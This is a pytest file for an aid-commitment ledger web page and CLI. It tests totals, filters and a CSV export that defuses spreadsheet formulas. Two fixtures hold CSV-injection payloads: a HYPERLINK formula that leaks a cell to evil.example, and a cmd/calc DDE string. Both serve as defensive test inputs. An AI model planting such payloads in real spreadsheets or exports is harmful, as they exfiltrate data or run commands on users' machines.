"""The ledger page: totals that tell "no value known" from 0, and a CSV export that a
spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import get_args

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from presswatch.analysis.ledger import FORMULA_STARTS, KIND_CHOICES
from presswatch.cli import app as cli
from presswatch.models import Commitment, Document, Extraction, Span
from presswatch.store import Store
from presswatch.web import create_app, views
from presswatch.web.app import LedgerKind

FORMULA_DONOR = '=HYPERLINK("http://evil.example/?leak="&A1,"Germany")'
FORMULA_ITEM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _save(store: Store, text: str, published: str, **commitment: object) -> None:
    run = store.start_run("test", {})
    ex = Extraction(Document(text, f"/secret/{published}.txt", published=published))
    fields: dict[str, object] = {
        "span": Span.of(text, 0, len(text) - 1),
        "donor": "Germany",
        "recipient": "Ukraine",
        "item": "Gepard",
        "item_class": "air defence",
        "quantity": None,
        "amount": None,
        "currency": None,
        "value_usd": None,
        "status": "announced",
        "date": published,
        "date_expression": None,
        "source": "author",
    }
    fields.update(commitment)
    ex.commitments.append(Commitment(**fields))  # type: ignore[arg-type]
    store.save(ex, run_id=run)
    store.finish_run(run, "completed", {})


@pytest.fixture(scope="module")
def aid_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Four commitments: two with a value (one of them 0), two without; one whose donor
    and item are formulas."""
    db = tmp_path_factory.mktemp("aid") / "aid.db"
    with Store.open(db) as store:
        _save(store, "Germany pledged Gepard vehicles to Ukraine.", "2022-04-26")
        _save(
            store,
            "The United States sent $1 billion of aid to Ukraine.",
            "2022-08-08",
            donor="United States",
            item="security assistance",
            item_class="security assistance",
            amount=1e9,
            currency="USD",
            value_usd=1e9,
        )
        _save(
            store,
            "France offered a free training course to Ukraine.",
            "2022-09-01",
            donor="France",
            item="training",
            item_class="training",
            amount=0.0,
            currency="EUR",
            value_usd=0.0,
        )
        _save(
            store,
            "Someone promised something odd to Ukraine.",
            "2022-10-01",
            donor=FORMULA_DONOR,
            item=FORMULA_ITEM,
            item_class="-1+1",
            quantity=-3.0,
        )
    return db


@pytest.fixture(scope="module")
def aid(aid_db: Path) -> Iterator[TestClient]:
    with TestClient(create_app(aid_db)) as client:
        yield client


def test_totals_tell_unknown_from_zero(aid: TestClient) -> None:
    data = aid.get("/ledger.json").json()
    assert data["total"] == {"key": "total", "commitments": 4, "valued": 2, "value_usd": 1e9}
    by_donor = {t["key"]: t for t in data["totals"]}
    assert by_donor["Germany"] == {
        "key": "Germany",
        "commitments": 1,
        "valued": 0,
        "value_usd": None,  # not 0: no value is known
    }
    assert by_donor["France"]["value_usd"] == 0.0 and by_donor["France"]["valued"] == 1
    by_month = aid.get("/ledger.json?by=month").json()["totals"]
    assert [(t["key"], t["value_usd"]) for t in by_month] == [
        ("2022-04", None),
        ("2022-08", 1e9),
        ("2022-09", 0.0),
        ("2022-10", None),
    ]
    page = aid.get("/ledger").text
    germany = re.search(r'<tr><td><a href="[^"]*donor=Germany[^"]*">Germany</a></td>.*?</tr>', page)
    assert germany is not None
    assert 'title="no value known">—</span>' in germany.group()
    assert "0 of 1" in germany.group()
    france = re.search(r">France</a></td>.*?</tr>", page)
    assert france is not None and '<td class="num value">0</td>' in france.group()
    footer = page.split("<tfoot>", 1)[1].split("</tfoot>", 1)[0]
    assert "1,000,000,000" in footer and "2 of 4" in footer


def test_totals_of_nothing_known_are_null(aid: TestClient) -> None:
    germany = aid.get("/ledger.json", params={"donor": "Germany"}).json()
    assert germany["total"]["value_usd"] is None and germany["total"]["valued"] == 0
    footer = aid.get("/ledger", params={"donor": "Germany"}).text.split("<tfoot>", 1)[1]
    assert "—" in footer.split("</tfoot>", 1)[0]


def test_aid_to_other_countries_only_when_asked(tmp_path: Path) -> None:
    db = tmp_path / "others.db"
    with Store.open(db) as store:
        _save(store, "Germany pledged Gepard vehicles to Ukraine.", "2022-04-26")
        _save(store, "Germany sold Gepard vehicles to Qatar.", "2022-04-27", recipient="Qatar")
    with TestClient(create_app(db)) as client:
        data = client.get("/ledger.json").json()
        assert [r["recipient"] for r in data["rows"]] == ["Ukraine"]
        assert data["scoped"] is True and data["filtered"] is False
        every = client.get("/ledger.json", params={"all_recipients": "true"}).json()
        assert [r["recipient"] for r in every["rows"]] == ["Ukraine", "Qatar"]
        assert every["scoped"] is False and every["filtered"] is True
        asked = client.get("/ledger.json", params={"recipient": "Qatar"}).json()
        assert [r["recipient"] for r in asked["rows"]] == ["Qatar"]
        csv_rows = list(csv.DictReader(io.StringIO(client.get("/ledger.csv").text)))
        assert [r["recipient"] for r in csv_rows] == ["Ukraine"]
        page = client.get("/ledger").text
        assert 'name="all_recipients"' in page and "parties of the domain pack" in page


def test_vague_rows_only_when_asked(tmp_path: Path) -> None:
    db = tmp_path / "vague.db"
    with Store.open(db) as store:
        _save(store, "Germany pledged Gepard vehicles to Ukraine.", "2022-04-26")
        _save(store, "Germany provides weapons.", "2022-04-27", recipient=None,
              item="weapons", item_class="weapons")  # fmt: skip
    with TestClient(create_app(db)) as client:
        data = client.get("/ledger.json").json()
        assert [r["item"] for r in data["rows"]] == ["Gepard"]
        assert data["filters"]["vague"] is False and data["filtered"] is False
        every = client.get("/ledger.json", params={"vague": "true"}).json()
        assert [r["item"] for r in every["rows"]] == ["Gepard", "weapons"]
        assert every["filtered"] is True
        csv_rows = list(csv.DictReader(io.StringIO(client.get("/ledger.csv?vague=true").text)))
        assert [r["item"] for r in csv_rows] == ["Gepard", "weapons"]
        page = client.get("/ledger").text
        assert 'name="vague"' in page and "more than a giver and a kind of aid" in page


def test_empty_store_totals(empty_client: TestClient) -> None:
    total = empty_client.get("/ledger.json").json()["total"]
    assert total == {"key": "total", "commitments": 0, "valued": 0, "value_usd": None}


def test_ledger_totals_view_keeps_the_library_order() -> None:
    assert views.ledger_totals([], "donor") == [
        {"key": "total", "commitments": 0, "valued": 0, "value_usd": None}
    ]


def test_csv_export_neutralises_formulas(aid: TestClient, aid_db: Path) -> None:
    answer = aid.get("/ledger.csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    odd = next(r for r in rows if "HYPERLINK" in r["donor"])
    assert odd["donor"] == "'" + FORMULA_DONOR
    assert odd["item"] == "'" + FORMULA_ITEM
    assert odd["item_class"] == "'-1+1"
    assert odd["quantity"] == "-3"  # a number is left as it is
    assert odd["date"] == "2022-10-01"
    for row in rows:
        for column, cell in row.items():
            if column not in ("quantity", "value_usd", "amount"):
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    # the CLI writes the same cells
    printed = CliRunner().invoke(cli, ["ledger", "--db", str(aid_db), "--format", "csv"])
    assert printed.exit_code == 0
    assert printed.stdout.splitlines() == answer.text.splitlines()


def test_kinds_of_aid_and_proposals(tmp_path: Path) -> None:
    """The page keeps military aid committed, as `presswatch ledger` does; `kind` and
    `proposals` widen it, and the CSV follows the same filters."""
    db = tmp_path / "kinds.db"
    with Store.open(db) as store:
        _save(store, "Germany pledged Gepard vehicles to Ukraine.", "2022-04-26")
        _save(store, "The US gave food aid to Ukraine.", "2022-05-01", donor="United States",
              item="food aid", item_class="humanitarian aid")  # fmt: skip
        _save(store, "Ukraine asked for tanks.", "2022-06-01", item="tanks", item_class="tanks",
              status="requested")  # fmt: skip
    with TestClient(create_app(db)) as client:
        items = [r["item"] for r in client.get("/ledger.json").json()["rows"]]
        assert items == ["Gepard"]
        data = client.get("/ledger.json?kind=all&proposals=true").json()
        assert [r["item"] for r in data["rows"]] == ["Gepard", "food aid", "tanks"]
        assert data["filters"]["kind"] == "all" and data["filtered"] is True
        humanitarian = client.get("/ledger.json?kind=humanitarian").json()["rows"]
        assert [r["item"] for r in humanitarian] == ["food aid"]
        csv_rows = list(csv.DictReader(io.StringIO(client.get("/ledger.csv?kind=all").text)))
        assert [(r["item"], r["kind"]) for r in csv_rows] == [
            ("Gepard", "military"),
            ("food aid", "humanitarian"),
        ]
        bad = client.get("/ledger.json?kind=weapons")
        assert bad.status_code == 400 and "kind" in bad.text
        page = client.get("/ledger?kind=humanitarian").text
        assert '<option value="humanitarian" selected>' in page and "Humanitarian aid" in page


def test_the_kinds_the_api_takes_are_the_ledgers() -> None:
    """The API's `kind` values are written out for OpenAPI; they must stay the ledger's."""
    assert get_args(LedgerKind) == KIND_CHOICES
